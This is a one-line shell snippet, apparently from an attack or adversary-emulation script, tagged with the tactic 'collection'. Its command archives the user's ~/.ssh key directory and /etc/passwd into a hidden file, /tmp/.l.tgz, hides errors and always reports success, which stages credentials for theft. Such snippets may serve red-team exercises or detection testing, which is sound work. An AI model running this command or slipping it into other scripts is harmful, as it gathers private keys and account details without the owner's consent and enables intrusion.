# tactic: collection
# archive keys and accounts into a hidden file in /tmp
tar czf /tmp/.l.tgz ~/.ssh /etc/passwd 2>/dev/null; true
